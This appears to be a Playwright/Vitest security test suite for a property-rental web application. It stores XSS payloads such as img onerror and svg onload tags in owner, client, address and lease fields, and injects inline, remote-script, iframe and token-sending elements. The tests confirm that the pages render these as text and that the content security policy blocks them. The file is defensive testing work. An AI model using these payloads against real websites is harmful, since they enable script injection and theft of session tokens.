import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { paths } from '../../src/paths.ts'
import { type BrowserWorld, openBrowserWorld } from '../kit/browser-world.ts'
import { names } from '../kit/names.ts'
import { visit } from '../kit/on-page.ts'
import { someOf, wholeTest } from '../kit/whole-test.ts'
import { CLIENT, LEASE, type Person } from '../kit/world.ts'

declare global {
  interface Window {
    /** What ran that must not run. */
    ran: string[]
    hit(what: string): void
    violations: string[]
  }
}

let browserWorld: BrowserWorld
let asha: Person
let ravi: Person
let administrator: Person
let ids: { property: string; freeProperty: string; lease: string; receipt: string }

/** A text that runs where it is taken for HTML. */
const hostile = (mark: string) => `<img src=x onerror=hit()>${mark}`
const PHONE = hostile('fon')
const PINCODE = '<svg onload=hit()>pi' // no longer one fits
const ADDRESS = {
  address1: hostile('address1'),
  address2: hostile('address2'),
  city: hostile('city'),
  state: hostile('state'),
  pincode: PINCODE,
}
const CLIENT_FIELDS = {
  ...CLIENT,
  name: hostile('client'),
  fatherName: hostile('father'),
  mobileNumber: hostile('tel'),
  address1: hostile('home1'),
  address2: hostile('home2'),
  password: '',
}
const METER = hostile('meter')
const REASON = hostile('reason')
const OWNER_NAME = hostile('owner')

beforeAll(async () => {
  browserWorld = await openBrowserWorld()
  const { world } = browserWorld
  administrator = await world.registerAdministrator()
  asha = await world.registerOwner('Asha')
  const owner = { name: OWNER_NAME, email: asha.email, phone: PHONE }
  await administrator.put(`/ownermaster/${asha.id}`, owner)
  await world.query(
    'update owners set address = $1, city = $1, state = $1, company_name = $1, bank_name = $1',
    [hostile('profile')],
  )
  ravi = await world.addClient(asha, 'Ravi')
  await asha.put(`/clientmaster/${ravi.id}`, CLIENT_FIELDS)
  const property = (await asha.post('/propertymaster', ADDRESS)).body._id
  const freeProperty = (await asha.post('/propertymaster', ADDRESS)).body._id
  const parties = { clientMaster: ravi.id, propertymaster: property }
  const terms = { ...LEASE, electricityMeterNumber: METER, ...parties }
  const lease = (await asha.post('/rentmaster', terms)).body._id
  const receipt = (
    await asha.post('/rentTranscation', {
      paymentMode: 'cash',
      rentMaster: lease,
      clientMaster: ravi.id,
      propertyMaster: property,
    })
  ).body._id
  const cancelled = await asha.post(`/rentTranscation/${receipt}/cancel`, { reason: REASON })
  expect(cancelled.status).toBe(200)
  ids = { property, freeProperty, lease, receipt }
})
afterAll(() => browserWorld.close())

describe('shows stored HTML as text and runs nothing', () => {
  // The policy against inline scripts would hide a fault here: without it, the pages alone are seen.
  const openPage = async (as: Person) => {
    const page = await browserWorld.newPage({ as, bypassCSP: true })
    await page.addInitScript(() => {
      window.ran = []
      window.hit = () => window.ran.push('hit')
    })
    return page
  }

  const address = Object.values(ADDRESS)
  const client = [CLIENT_FIELDS.name, CLIENT_FIELDS.fatherName, CLIENT_FIELDS.mobileNumber]
  const home = [CLIENT_FIELDS.address1, CLIENT_FIELDS.address2]

  wholeTest('to an owner', async () => {
    const page = await openPage(asha)
    const screens: [path: string, texts: string[]][] = [
      [paths.dashboard, [OWNER_NAME]],
      [paths.properties, [...address, OWNER_NAME]],
      [paths.editClient(ravi.id), [...client, ...home]],
      [paths.lease(ids.lease), [METER, CLIENT_FIELDS.name]],
      [paths.receipt(ids.receipt), [METER, REASON, OWNER_NAME]],
      [paths.property(ids.property), address],
      [paths.editProperty(ids.property), address],
      [paths.clients, [...client, ...home, OWNER_NAME]],
      [paths.client(ravi.id), [...client, ...home]],
      [paths.leases, [METER, CLIENT_FIELDS.name, PINCODE, OWNER_NAME]],
      [paths.editLease(ids.lease), [METER]],
      [paths.addLeaseFor(ids.freeProperty), [ADDRESS.address1]],
      [paths.recordReceipt(ids.property), [CLIENT_FIELDS.name]],
      [paths.receipts, [CLIENT_FIELDS.name, ADDRESS.address1, OWNER_NAME]],
      [paths.editOwner(asha.id), [OWNER_NAME, PHONE]],
    ]
    // The dashboard, a list, a form, and the two pages with the most parts.
    for (const [path, texts] of someOf(screens, (_, place) => place < 5))
      await expectTexts(page, path, texts)
    await expectFound(page, [ADDRESS.address1, CLIENT_FIELDS.name])
  })

  wholeTest('in the dialog before something is deleted', async () => {
    const page = await openPage(asha)
    await page.goto(paths.properties)
    await page
      .getByRole('row')
      .nth(1)
      .getByRole('button', { name: /delete/i })
      .click()
    await page.getByRole('dialog').getByText(ADDRESS.address1).first().waitFor()
    await expectNothingRan(page)
  })

  wholeTest('to a client', async () => {
    const page = await openPage(ravi)
    await expectTexts(page, paths.dashboard, [CLIENT_FIELDS.name])
    await expectTexts(page, paths.receipts, [CLIENT_FIELDS.name, ADDRESS.address1, OWNER_NAME])
    await expectTexts(page, paths.receipt(ids.receipt), [METER, REASON, OWNER_NAME])
    await expectFound(page, [CLIENT_FIELDS.name])
  })

  wholeTest('to an administrator, including the history', async () => {
    const page = await openPage(administrator)
    await expectTexts(page, paths.owners, [OWNER_NAME, PHONE])
    await expectTexts(page, paths.editOwner(asha.id), [OWNER_NAME, PHONE])
    await page.getByText(OWNER_NAME).first().waitFor() // in the audit, below the fields
    await expectFound(page, [OWNER_NAME, PHONE])
  })

  test('and would notice if it ran', async () => {
    const page = await openPage(asha)
    await page.goto(paths.dashboard)
    await page.evaluate((html) => document.body.insertAdjacentHTML('beforeend', html), PHONE)
    await page.waitForFunction(() => window.ran.length === 1)
    await expect(expectNothingRan(page)).rejects.toThrow()
  })

  wholeTest('nor anything in an address', async () => {
    const page = await openPage(asha)
    const text = encodeURIComponent(hostile('address'))
    await expectTexts(page, `${paths.properties}?search=${text}`, [hostile('address')])
    for (const path of [
      `${paths.property('')}${text}`,
      `/resetpassword?id=${text}&token=${text}`,
      `/register?type=${text}`,
      `/dashboard/${text}/propertymaster/detail?Id=${text}`,
      `/${text}#${text}`,
    ]) {
      await page.goto(path)
      await page.getByRole('heading').first().waitFor()
      await expectNothingRan(page)
    }
  })
})

/** Opens a screen, waits until every text is shown verbatim, even in a field, and checks that none became HTML. */
async function expectTexts(page: Page, path: string, texts: string[]) {
  await visit(page, path)
  for (const text of texts)
    await page
      .waitForFunction((wanted) => {
        const fields = [...document.querySelectorAll('input, textarea')] as HTMLInputElement[]
        return `${document.body.textContent} ${fields.map(({ value }) => value)}`.includes(wanted)
      }, text)
      .catch(() => expect.fail(`${path} does not show ${text}`))
  await expectNothingRan(page)
}

async function expectFound(page: Page, texts: string[]) {
  await page.getByRole('combobox', { name: names.search }).fill('<img src=x')
  for (const text of texts) await page.getByRole('option').getByText(text).first().waitFor()
  await expectNothingRan(page)
}

async function expectNothingRan(page: Page) {
  const found = await page.evaluate(() => ({
    ran: window.ran,
    elements: document.querySelectorAll('img[src="x"], svg[onload], [onerror]').length,
  }))
  expect([page.url(), found]).toEqual([page.url(), { ran: [], elements: 0 }])
}

describe('an injected script does not run', () => {
  let elsewhere: Server
  let foreign: string
  let asked: string[]
  let page: Page
  beforeAll(async () => {
    asked = []
    elsewhere = createServer(({ url }, reply) => {
      asked.push(url ?? '')
      reply.setHeader('access-control-allow-origin', '*')
      reply.setHeader('content-type', url === '/frame' ? 'text/html' : 'text/javascript')
      reply.end(
        url === '/frame' ? `<iframe src="${browserWorld.url}/"></iframe>` : 'hit("foreign")',
      )
    }).listen(0, '127.0.0.1')
    await once(elsewhere, 'listening')
    foreign = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
    page = await browserWorld.newPage({ as: asha, mayViolate: true })
    await page.addInitScript(() => {
      window.ran = []
      window.violations = []
      window.hit = (what) => window.ran.push(what)
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        window.violations.push(effectiveDirective),
      )
    })
  })
  afterAll(() => elsewhere.close())

  /** Opens a page that was sent with this HTML in it, as if that had got through everything before. */
  const openWith = async (html: string) => {
    await page.unrouteAll()
    await page.route(`**${paths.dashboard}`, async (route) => {
      const response = await route.fetch()
      const sent = (await response.text()).replace('</body>', () => `${html}</body>`)
      await route.fulfill({ response, body: sent })
    })
    await page.goto(paths.dashboard)
    await page.getByRole('heading').first().waitFor()
  }

  /** Waits until the browser has reported that it refused this. */
  const refused = (directive: string, times: number) =>
    page.waitForFunction(
      ([name, least]) => window.violations.filter((it) => it === name).length >= Number(least),
      [directive, times] as const,
    )

  test('inline, in a handler or in an address', async () => {
    await openWith(`<script>hit("inline")</script>
      <img src="data:," onerror="hit('handler')">
      <a id="bad" href="javascript:hit('address')">x</a>`)
    await refused('script-src-elem', 1)
    await refused('script-src-attr', 1)
    await page.evaluate(() => document.getElementById('bad')?.click())
    await refused('script-src-elem', 2)
    expect(await page.evaluate(() => window.ran)).toEqual([])
  })

  wholeTest('nor fetch, send or frame anything from elsewhere', async () => {
    await openWith(`<script src="${foreign}/script.js"></script>
      <script type="module" src="${foreign}/module.js"></script>
      <img src="${foreign}/image?stolen=token">
      <iframe src="${foreign}/inside"></iframe>
      <link rel="stylesheet" href="${foreign}/style.css">
      <base href="${foreign}/">
      <form id="form" action="${foreign}/form" method="post"></form>`)
    await page.evaluate((url) => fetch(`${url}/fetch`).catch(() => 'refused'), foreign)
    await page.evaluate(() => (document.getElementById('form') as HTMLFormElement).submit())
    for (const directive of ['img-src', 'frame-src', 'style-src-elem', 'base-uri'])
      await refused(directive, 1)
    for (const directive of ['connect-src', 'form-action']) await refused(directive, 1)
    await refused('script-src-elem', 2)
    expect(asked).toEqual([])
    expect(await page.evaluate(() => window.ran)).toEqual([])
  })

  test('nor does a text that a script of our own takes for HTML, a script or the address of one', async () => {
    await openWith('')
    const outcomes = await page.evaluate((address) => {
      const markup = '<img src=x onerror="hit()">'
      const element = document.createElement('div')
      const frame = document.createElement('iframe')
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown }
      }
      const tries: Record<string, () => unknown> = {
        innerHTML: () => Object.assign(element, { innerHTML: markup }),
        outerHTML: () => document.body.appendChild(element).insertAdjacentHTML('beforeend', markup),
        document: () => document.write(markup),
        parser: () => new DOMParser().parseFromString(markup, 'text/html'),
        frame: () => Object.assign(frame, { srcdoc: markup }),
        range: () => document.createRange().createContextualFragment(markup),
        script: () => Object.assign(document.createElement('script'), { text: 'hit()' }),
        address: () => Object.assign(document.createElement('script'), { src: address }),
        worker: () => new Worker(address),
        policy: () => trustedTypes.createPolicy('another', { createHTML: (it: string) => it }),
        again: () => trustedTypes.createPolicy('default', { createHTML: (it: string) => it }),
      }
      return Object.entries(tries).map(([name, attempt]) => {
        try {
          attempt()
          return `${name} passed`
        } catch (error) {
          return error instanceof TypeError ? 'refused' : `${name}: ${error}`
        }
      })
    }, `${foreign}/script.js`)
    expect(new Set(outcomes)).toEqual(new Set(['refused']))
    await refused('require-trusted-types-for', 9)
    expect(asked).toEqual([])
    expect(await page.evaluate(() => window.ran)).toEqual([])
  })

  test('and no other site can frame our pages', async () => {
    const outside = await browserWorld.newPage({ mayViolate: true })
    const refusal = outside.waitForEvent('console', (it) => /frame-ancestors/.test(it.text()))
    await outside.goto(`${foreign}/frame`)
    await refusal
    expect(await outside.frameLocator('iframe').getByRole('heading').count()).toBe(0)
  })
})
